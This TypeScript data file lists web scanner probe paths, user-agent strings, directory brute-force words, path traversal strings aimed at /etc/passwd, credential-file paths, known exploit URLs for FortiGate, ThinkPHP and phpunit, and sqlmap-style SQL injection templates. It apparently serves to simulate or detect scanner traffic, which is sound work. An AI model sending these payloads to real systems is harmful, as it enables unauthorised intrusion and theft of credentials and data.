/** What web vulnerability scanners request and how they identify themselves. */

/** Paths from common scanner check lists (Nikto, nuclei templates, directory wordlists). */
export const SCANNER_PATHS = [
  '/.git/config', '/.git/HEAD', '/.env', '/.env.backup', '/.env.production', '/.svn/entries', '/.DS_Store', '/.htaccess',
  '/.htpasswd', '/server-status', '/server-info', '/phpinfo.php', '/info.php', '/test.php', '/config.php', '/config.php.bak',
  '/wp-config.php.bak', '/wp-login.php', '/wp-admin/', '/wp-json/wp/v2/users', '/xmlrpc.php', '/phpmyadmin/index.php',
  '/pma/', '/myadmin/', '/adminer.php', '/admin/', '/admin/login.php', '/administrator/', '/manager/html', '/console/',
  '/actuator/env', '/actuator/heapdump', '/actuator/mappings', '/jolokia/list', '/api/v1/pods', '/api/swagger.json',
  '/swagger-ui.html', '/v2/api-docs', '/graphql', '/debug/pprof/', '/_ignition/health-check', '/telescope/requests',
  '/backup.zip', '/backup.tar.gz', '/site.tar.gz', '/db.sql', '/dump.sql', '/database.sql', '/web.config', '/crossdomain.xml',
  '/cgi-bin/test-cgi', '/cgi-bin/printenv', '/cgi-bin/php', '/solr/admin/cores', '/owa/', '/ecp/', '/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP',
  '/?XDEBUG_SESSION_START=phpstorm', '/storage/logs/laravel.log', '/config.json', '/credentials.json', '/id_rsa', '/.ssh/id_rsa',
  '/aws.yml', '/.aws/credentials', '/docker-compose.yml', '/Dockerfile', '/package.json', '/composer.json', '/yarn.lock',
];

/** Path traversal attempts against the site's real download and page endpoints. */
export const TRAVERSAL_TARGETS = [
  '/download?file=../../../../etc/passwd',
  '/download?file=..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/download?file=....//....//....//etc/passwd',
  '/static/..%2f..%2f..%2f..%2fetc%2fpasswd',
  '/assets/../../../../etc/passwd',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd',
  '/index.php?page=../../../../../../etc/passwd%00',
  '/docs/?lang=../../../../windows/win.ini',
  '/?file=php://filter/convert.base64-encode/resource=index.php',
  '/..%252f..%252f..%252f..%252fetc%252fpasswd',
];

/** Directory-brute-force words (gobuster/dirb style). */
export const DIRECTORY_WORDS = [
  'admin', 'backup', 'backups', 'bak', 'config', 'dev', 'old', 'test', 'tmp', 'temp', 'upload', 'uploads', 'files', 'private',
  'secret', 'logs', 'log', 'db', 'database', 'sql', 'data', 'api', 'v1', 'v2', 'internal', 'staging', 'beta', 'demo', 'portal',
  'login', 'signin', 'dashboard', 'panel', 'cpanel', 'webadmin', 'console', 'shell', 'cmd', 'include', 'includes', 'lib', 'src',
  'vendor', 'node_modules', 'scripts', 'js', 'css', 'img', 'images', 'static', 'media', 'assets', 'export', 'import', 'cache',
  'cron', 'install', 'setup', 'readme', 'license', 'changelog', 'status', 'health', 'metrics', 'monitor', 'server', 'web', 'www',
  'site', 'home', 'user', 'users', 'account', 'accounts', 'member', 'members', 'auth', 'oauth', 'sso', 'jenkins', 'git', 'svn',
];

export const SCANNER_USER_AGENTS = {
  nikto: (test: number): string => `Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:${String(test).padStart(6, '0')})`,
  sqlmap: 'sqlmap/1.8.11#stable (https://sqlmap.org)',
  gobuster: 'gobuster/3.6',
  nuclei: 'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
};

/** sqlmap `--random-agent` draws from its list of old browser strings. */
export const SQLMAP_RANDOM_AGENTS = [
  'Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US) AppleWebKit/534.16 (KHTML, like Gecko) Chrome/10.0.648.133 Safari/534.16',
  'Opera/9.80 (Windows NT 6.1; U; en) Presto/2.8.131 Version/11.11',
  'Mozilla/5.0 (X11; U; Linux i686; en-US; rv:1.9.1.2) Gecko/20090729 Firefox/3.5.2',
  'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.0; Trident/4.0; SLCC1; .NET CLR 2.0.50727)',
];

/** sqlmap-style payload templates for one parameter; `{n}` is a random number, `{v}` the original value. */
export const SQL_INJECTION_PAYLOADS = [
  "{v}'",
  '{v})',
  "{v}' AND '{n}'='{n}",
  '{v} AND {n}={n}',
  '{v} AND {n}={m}',
  "{v}' AND {n}={n}-- -",
  "{v}' OR 1=1-- -",
  '{v} ORDER BY 1-- -',
  '{v} ORDER BY 10-- -',
  '{v} UNION ALL SELECT NULL-- -',
  '{v} UNION ALL SELECT NULL,NULL,NULL-- -',
  "{v}' UNION ALL SELECT NULL,CONCAT(0x7176787a71,0x{h},0x716b6a7171),NULL-- -",
  "{v}' AND SLEEP(5)-- {w}",
  '{v};SELECT PG_SLEEP(5)--',
  "{v}' AND (SELECT {n} FROM (SELECT(SLEEP(5))){w})-- {w}",
  "{v} AND EXTRACTVALUE({n},CONCAT(0x5c,0x7176787a71,(SELECT (ELT({n}={n},1))),0x716b6a7171))",
  "-{n}' OR {n}={n}#",
  "{v}\" AND \"{n}\"=\"{n}",
];
